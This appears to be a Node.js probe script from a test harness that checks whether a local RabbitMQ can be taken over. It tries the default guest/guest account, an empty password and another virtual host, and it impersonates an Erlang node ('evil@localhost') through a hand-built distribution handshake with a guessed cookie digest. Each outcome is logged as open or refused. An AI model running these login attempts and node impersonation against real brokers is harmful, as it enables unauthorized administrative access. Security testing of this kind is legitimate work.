// Tries to become an administrator of RabbitMQ: by its default account, by another virtual host, by Erlang's own protocol.
const amqp = require('amqplib');
const http = require('node:http');
const net = require('node:net');

const probe = (name, work) =>
  work().then(
    (answer) => console.log(`PROBE R ${name}: ${answer}`),
    (error) => console.log(`PROBE R ${name}: refused ${error.code ?? error.message.slice(0, 60)}`),
  );
const login = (change) => async () => {
  const url = new URL(process.env.AMQP_URL);
  change(url);
  await (await amqp.connect(url.href)).close();
  return 'open';
};
/** Asks the port mapper where the node listens, and begins a handshake with a name and a cookie of its own. */
const ask = (port, bytes) =>
  new Promise((resolve, reject) => {
    const socket = net.connect(port, '127.0.0.1', () => socket.write(bytes));
    let answer = Buffer.alloc(0);
    socket.on('data', (piece) => {
      answer = Buffer.concat([answer, piece]);
    });
    socket.on('error', reject);
    socket.on('close', () => resolve(answer));
    setTimeout(() => socket.destroy(), 1000);
  });
const frame = (body) => Buffer.concat([Buffer.from([body.length >> 8, body.length & 255]), body]);
const becomeNode = async () => {
  const found = await ask(4369, frame(Buffer.concat([Buffer.from('z'), Buffer.from('rabbit')])));
  if (found.length < 4 || found[1] !== 0) return 'refused by the port mapper';
  const port = found.readUInt16BE(2);
  const name = Buffer.from('evil@localhost');
  const hello = Buffer.alloc(15);
  hello.write('N', 0);
  hello.writeBigUInt64BE(0x0000000d07df7fbdn, 1);
  hello.writeUInt32BE(1, 9);
  hello.writeUInt16BE(name.length, 13);
  const handshake = await new Promise((resolve, reject) => {
    const socket = net.connect(port, '127.0.0.1', () => socket.write(frame(Buffer.concat([hello, name]))));
    let text = '';
    socket.on('data', (piece) => {
      text += piece.toString('latin1');
      // The challenge: the answer is a digest of the cookie, and this one is guessed.
      if (/sok/.test(text)) socket.write(frame(Buffer.concat([Buffer.from('r'), Buffer.alloc(20, 7)])));
    });
    socket.on('error', reject);
    socket.on('close', () => resolve(text.includes('a') && /\x00\x11a/.test(text) ? 'open' : 'refused by the node'));
    setTimeout(() => socket.destroy(), 2000);
  });
  return handshake;
};

(async () => {
  await probe('guest', login((url) => Object.assign(url, { username: 'guest', password: 'guest' })));
  await probe('no password', login((url) => Object.assign(url, { username: 'harness', password: '' })));
  await probe('the first virtual host', login((url) => Object.assign(url, { pathname: '/%2f' })));
  await probe('a node', becomeNode);
  http.createServer((request, response) => response.end('ok')).listen(Number(process.env.PORT), '127.0.0.1');
})();
